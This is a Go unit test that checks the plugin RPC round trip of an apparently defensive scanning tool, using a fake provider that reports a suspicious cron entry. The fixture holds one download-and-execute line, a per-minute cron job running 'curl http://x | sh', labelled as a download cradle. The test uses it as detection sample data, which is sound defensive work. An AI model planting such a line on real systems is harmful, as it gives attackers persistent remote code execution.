package shared

import (
	"fmt"
	"testing"
	"time"

	"github.com/hashicorp/go-plugin"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tracesweep-io/tracesweep/pkg/shared/config"
)

type fakeProvider struct {
	configured bool
}

func (f *fakeProvider) Setup(cfg config.Config) (bool, error) {
	f.configured = cfg.Sweep.ProcRoot != ""
	return f.configured, nil
}

func (f *fakeProvider) Scan(req ProviderScanRequest) (ProviderScanResponse, error) {
	if req.Layer != "registry" {
		return ProviderScanResponse{}, fmt.Errorf("layer %q is not served", req.Layer)
	}
	return ProviderScanResponse{
		Observations: []ProviderObservation{{
			ArtifactType: "cron_entry",
			Location:     "/etc/cron.d/updater",
			Indicators:   []string{"autostart_download_cradle"},
			Attributes:   map[string]string{"line": "* * * * * curl http://x | sh"},
			FileSize:     42,
			HasFileSize:  true,
			ObservedAt:   time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC),
		}},
		Truncated: req.MaxResults == 1,
	}, nil
}

func TestProviderRPCRoundTrip(t *testing.T) {
	client, _ := plugin.TestPluginRPCConn(t, map[string]plugin.Plugin{
		PluginTypeProbe: &ProbePlugin{Impl: &fakeProvider{}},
	}, nil)
	defer client.Close()

	raw, err := client.Dispense(PluginTypeProbe)
	require.NoError(t, err)
	provider, ok := raw.(Provider)
	require.True(t, ok)

	ok, err = provider.Setup(config.Config{Sweep: config.Sweep{ProcRoot: "/proc"}})
	require.NoError(t, err)
	assert.True(t, ok)

	resp, err := provider.Scan(ProviderScanRequest{Layer: "registry", MaxResults: 1})
	require.NoError(t, err)
	require.Len(t, resp.Observations, 1)
	assert.True(t, resp.Truncated)

	obs := resp.Observations[0]
	assert.Equal(t, "/etc/cron.d/updater", obs.Location)
	assert.Equal(t, []string{"autostart_download_cradle"}, obs.Indicators)
	assert.Equal(t, int64(42), obs.FileSize)
	assert.True(t, obs.ObservedAt.Equal(time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)))

	_, err = provider.Scan(ProviderScanRequest{Layer: "network"})
	assert.Error(t, err)
}
